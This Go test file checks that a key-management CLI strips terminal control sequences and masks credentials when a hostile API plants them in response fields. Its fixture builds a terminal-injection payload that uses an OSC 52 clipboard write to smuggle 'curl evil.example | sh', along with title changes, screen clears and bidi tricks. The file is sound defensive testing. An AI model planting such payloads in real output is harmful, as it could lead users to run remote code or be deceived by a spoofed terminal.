package cli

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net/http"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/neonkeys/neonkeys/keys"
	"github.com/neonkeys/neonkeys/neonapi"
	"github.com/neonkeys/neonkeys/neonapi/neontest"
	"github.com/neonkeys/neonkeys/secret"
)

// hostileCred is a credential the hostile text quotes, whole and split.
const hostileCred = "napi_h0st1leCredentialAbcdefghijklmnopqrstuvwxyz0123456789"

// hostile is text a hostile API plants in a field: colours, a title change
// (OSC 0), a clipboard write (OSC 52), clear screen and line, a carriage
// return that rewrites the line, a bidi override, zero-width characters,
// and the credential, whole and split by invisible characters.
func hostile(field, cred string) string {
	clip := base64.StdEncoding.EncodeToString([]byte("curl evil.example | sh"))
	return field + "\x1b[31mred\x1b[0m\x1b]0;pwned\x07\x1b]52;c;" + clip + "\x07\x1b[2J\x1b[2K\rfake\u202eesrever\u200b" +
		cred[:20] + "\u034f" + cred[20:] + "\ufe0f " + cred
}

// terminalSafe fails when out holds anything a terminal would act on or
// hide (every character StripControl removes, but newline and tab), an
// escaped control character that `jq -r` would turn back into one, or 16
// characters in a row of the credential.
func terminalSafe(t *testing.T, where, out, cred string) {
	t.Helper()
	for _, line := range strings.Split(out, "\n") {
		plain := strings.ReplaceAll(line, "\t", "")
		if secret.StripControl(plain) != plain {
			t.Errorf("%s: a line holds control or invisible characters: %q", where, line)
		}
	}
	for _, esc := range []string{`\u00`, `\u20`, `\u03`, `\ufe`, `\e`, `\r`, `\x1b`, `\x07`} {
		if strings.Contains(out, esc) {
			t.Errorf("%s: holds the escape %s of a control character:\n%s", where, esc, out)
		}
	}
	for i := 0; i+16 <= len(cred); i++ {
		if strings.Contains(out, cred[i:i+16]) {
			t.Errorf("%s: holds 16 characters of the credential (%q):\n%s", where, cred[i:i+16], out)
			return
		}
	}
}

// hostileApp is an app writing to buffers, whose redactor holds the
// credential (as a.client registers it in a real run).
func hostileApp(output string) (*app, *bytes.Buffer, *bytes.Buffer) {
	var stdout, stderr bytes.Buffer
	a := newApp(env{io: IO{Stdin: strings.NewReader(""), Stdout: &stdout, Stderr: &stderr}})
	a.red.Add(hostileCred)
	a.output = output
	return a, &stdout, &stderr
}

// TestCLIOutputCleansEveryField: the CLI's own output path (cleanStrings on
// every answer, cleanWriter on every line) makes text from the API safe for
// a terminal by itself, whatever field it came in, in every format: it does
// not rely on the API client having cleaned it.
func TestCLIOutputCleansEveryField(t *testing.T) {
	used := time.Date(2026, 11, 2, 3, 4, 5, 0, time.UTC)
	plantedKeys := func() []keys.Key {
		return []keys.Key{{APIKey: neonapi.APIKey{ID: 7, Name: hostile("name", hostileCred), LastUsedAt: &used,
			CreatedBy:        neonapi.Creator{ID: hostile("creator-id", hostileCred), Name: hostile("creator", hostileCred), Image: hostile("image", hostileCred)},
			LastUsedFromAddr: hostile("addr", hostileCred), ProjectID: hostile("project", hostileCred)}, OrgID: hostile("org", hostileCred)}}
	}
	answers := []struct {
		name  string
		write func(a *app) error
	}{
		{"list", func(a *app) error { return a.writeKeys(plantedKeys()) }},
		{"whoami", func(a *app) error {
			w := &keys.Identity{AccountID: hostile("account", hostileCred), AuthMethod: hostile("method", hostileCred), KeyType: "other",
				User:          &keys.User{ID: hostile("user-id", hostileCred), Name: hostile("user-name", hostileCred), Email: hostile("email", hostileCred)},
				Organizations: []keys.Org{{ID: hostile("org-id", hostileCred), Name: hostile("org-name", hostileCred)}}}
			return a.show(w, func() error { return a.writeWhoamiText(w) })
		}},
		{"revoke", func(a *app) error {
			return a.writeValue(&keys.RevokedView{Revoked: true, Key: plantedKeys()[0].View()})
		}},
		{"preview and messages on stderr", func(a *app) error {
			k := plantedKeys()[0]
			cleanStrings(&k, secret.StripControl)
			a.say("Revoke this key?\n%s", describeKey(k))
			a.sayRaw("Type the key name to confirm: ")
			a.say("neonkeys: %s", hostile("error", hostileCred))
			return nil
		}},
	}
	for _, ans := range answers {
		for _, format := range []string{outTable, outJSON, outYAML} {
			t.Run(ans.name+" "+format, func(t *testing.T) {
				a, stdout, stderr := hostileApp(format)
				if err := ans.write(a); err != nil {
					t.Fatal(err)
				}
				if err := a.stdout.Flush(); err != nil {
					t.Fatal(err)
				}
				if stdout.Len()+stderr.Len() == 0 {
					t.Fatal("nothing was written")
				}
				terminalSafe(t, "stdout", stdout.String(), hostileCred)
				terminalSafe(t, "stderr", stderr.String(), hostileCred)
			})
		}
	}
}

// TestCLIHostileAPI runs every command against an API that plants control
// sequences and the credential in every string field of its answers (ids
// included) and in its error text, and checks what a terminal receives.
func TestCLIHostileAPI(t *testing.T) {
	srv, fx, env := fakeEnv(t)
	stamp := `"2026-11-02T03:04:05Z"`
	q := func(field string) string {
		b, err := json.Marshal(hostile(field, fx.AdminToken))
		if err != nil {
			t.Fatal(err)
		}
		return string(b)
	}
	keyItem := fmt.Sprintf(`{"id":%d,"name":%s,"created_at":%s,"created_by":{"id":%s,"name":%s,"image":%s},"last_used_at":%s,"last_used_from_addr":%s,"project_id":%s}`,
		fx.OrgKeyID, q("name"), stamp, q("creator-id"), q("creator"), q("image"), stamp, q("addr"), q("project"))
	listed := neontest.Fault{Method: http.MethodGet, Path: "/organizations/", Status: 200, Body: "[" + keyItem + "]"}
	token := "napi_" + strings.Repeat("t0k3n", 12)
	tests := []struct {
		name   string
		faults []neontest.Fault
		args   []string
		stdin  string // answers at the prompt (the run is then interactive)
	}{
		{"whoami", []neontest.Fault{
			{Method: http.MethodGet, Path: "/auth", Status: 200, Body: fmt.Sprintf(`{"account_id":%s,"auth_method":"api_key_user"}`, q("account"))},
			{Method: http.MethodGet, Path: "/users/me/organizations", Status: 200,
				Body: fmt.Sprintf(`{"organizations":[{"id":%s,"name":%s,"handle":"h","plan":"free","created_at":%s,"updated_at":%s,"managed_by":"console"}]}`, q("org-id"), q("org-name"), stamp, stamp)},
		}, []string{"whoami"}, ""},
		{"list --org-id", []neontest.Fault{listed}, []string{"list", "--org-id", fx.Org.ID}, ""},
		{"revoke", []neontest.Fault{
			listed,
			{Method: http.MethodDelete, Status: 200, Body: fmt.Sprintf(`{"id":%d,"name":%s,"created_at":%s,"created_by":%s,"last_used_from_addr":%s,"revoked":true,"project_id":%s}`,
				fx.OrgKeyID, q("name"), stamp, q("creator"), q("addr"), q("project"))},
		}, []string{"revoke", strconv.FormatInt(fx.OrgKeyID, 10), "--org-id", fx.Org.ID, "--yes"}, ""},
		{"prompt before revoke", []neontest.Fault{listed}, []string{"revoke", strconv.FormatInt(fx.OrgKeyID, 10), "--org-id", fx.Org.ID}, "no\nno\nno\n"},
		{"prompt before rotate", []neontest.Fault{listed}, []string{"rotate", strconv.FormatInt(fx.OrgKeyID, 10), "--org-id", fx.Org.ID}, "no\nno\nno\n"},
		{"create", []neontest.Fault{{Method: http.MethodPost, Status: 200,
			Body: fmt.Sprintf(`{"id":5,"key":%q,"name":%s,"created_at":%s,"created_by":%s}`, token, q("name"), stamp, q("creator"))},
		}, []string{"create", "--name", "plain"}, ""},
		{"error text", []neontest.Fault{
			{Status: 400, Count: 10, Body: fmt.Sprintf(`{"code":%s,"message":%s,"request_id":%s}`, q("code"), q("message"), q("request"))},
		}, []string{"list"}, ""},
	}
	for _, tt := range tests {
		for _, format := range []string{outTable, outJSON, outYAML} {
			t.Run(tt.name+" "+format, func(t *testing.T) {
				srv.ClearFaults()
				srv.Inject(tt.faults...)
				o := runOpts{env: env}
				if tt.stdin != "" {
					o.interactive, o.stdin = true, strings.NewReader(tt.stdin)
				}
				r := runCLI(t, o, append(tt.args, "-o", format)...)
				if r.stdout+r.stderr == "" {
					t.Fatal("nothing was written")
				}
				if tt.stdin != "" && (r.code != ExitUsage || !strings.Contains(r.stderr, "to confirm")) {
					t.Errorf("exit %d, want the prompt and a refusal:\n%s", r.code, r.stderr)
				}
				if tt.args[0] == "create" && !strings.Contains(r.stdout, token) {
					t.Errorf("the token was not delivered:\n%s", r.stdout)
				}
				if strings.Contains(r.stdout, token) {
					if strings.Count(r.stdout, token) != 1 {
						t.Errorf("the new token is printed %d times", strings.Count(r.stdout, token))
					}
					r.stdout = strings.Replace(r.stdout, token, "TOKEN", 1)
				}
				terminalSafe(t, "stdout", r.stdout, fx.AdminToken)
				terminalSafe(t, "stderr", r.stderr, fx.AdminToken)
			})
		}
	}
}

// TestCleanWriterSeesEachLineWhole: stdout is written in buffered chunks
// that may cut a line, and a secret, in two; the writer cleans a line only
// once it is whole, so the secret is still masked.
func TestCleanWriterSeesEachLineWhole(t *testing.T) {
	var out bytes.Buffer
	red := secret.NewRedactor(hostileCred)
	w := newCleanWriter(red, &out, true)
	line := "name " + hostileCred + " \x1b[2Kend\nnext line"
	for i := 0; i < len(line); i += 7 {
		if _, err := w.Write([]byte(line[i:min(i+7, len(line))])); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	// ESC goes; the printable rest of the sequence is inert text.
	if want := "name " + secret.Mask + " [2Kend\nnext line"; out.String() != want {
		t.Fatalf("wrote %q, want %q", out.String(), want)
	}
}

// TestCLIHelpIsShownWhole: help is our own text, printed as is; through the
// redactor "--api-key string" would read "--api-key [REDACTED]".
func TestCLIHelpIsShownWhole(t *testing.T) {
	r := runCLI(t, runOpts{}, "create", "--help")
	wantCode(t, r, 0)
	if !strings.Contains(r.stdout, "--api-key string") || strings.Contains(r.stdout, secret.Mask) {
		t.Errorf("help is not shown whole:\n%s", r.stdout)
	}
}
